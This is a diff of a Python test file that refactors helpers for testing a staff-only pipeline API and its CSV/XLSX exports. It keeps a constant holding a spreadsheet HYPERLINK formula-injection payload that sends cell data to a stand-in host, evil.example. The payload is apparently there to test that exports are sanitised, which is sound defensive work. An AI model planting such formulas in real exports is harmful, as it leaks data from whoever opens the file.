@@ -13,8 +13,8 @@ from app.api.pipeline import COLUMNS
 from dossier.db import utcnow
 from dossier.models import Route
 from tests.conftest import login
-from tests.helpers import full_dossier
-from tests.routing.conftest import ready_dossier, six_partner_dossier, wait_routes
+from tests.helpers import full_dossier, submit
+from tests.routing.conftest import wait_routes
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'
 ENDPOINTS = ("/api/v1/pipeline", "/api/v1/pipeline/export.csv", "/api/v1/pipeline/export.xlsx")
@@ -38,23 +38,10 @@ def test_pipeline_is_for_staff_only(client, founder, staff):
                for p in empty["partners"])
 
 
-def cepac_only(name: str) -> dict:
-    """The full dossier under another name, asking CEPAC only."""
-    body = full_dossier()
-    body["company"]["legal_name"] = name
-    body["requests"] = [r for r in body["requests"] if r["partner"] == "cepac"]
-    return body
-
-
 def test_pipeline_counts_medians_breaches_stuck_and_exports(client, founder, staff, sessions):
-    main = six_partner_dossier()
-    main["company"]["legal_name"] = EVIL
-    ids = []
-    for body in (main, cepac_only("Biotope"), cepac_only("Numeria")):
-        ids.append(ready_dossier(client, founder, body))
-        r = client.post(f"/api/v1/dossiers/{ids[-1]}/submit", headers=founder,
-                        json={"consent": True})
-        assert r.status_code == 202, r.text
+    ids = [submit(client, founder, body)["dossier_id"] for body in (
+        full_dossier(name=EVIL, ask_cic=True), full_dossier(name="Biotope", partners=["cepac"]),
+        full_dossier(name="Numeria", partners=["cepac"]))]
     routed = [{x["partner"]: x["id"] for x in wait_routes(
         client, founder, dossier_id, lambda rs: all(x["state"] == "delivered" for x in rs))}
         for dossier_id in ids]
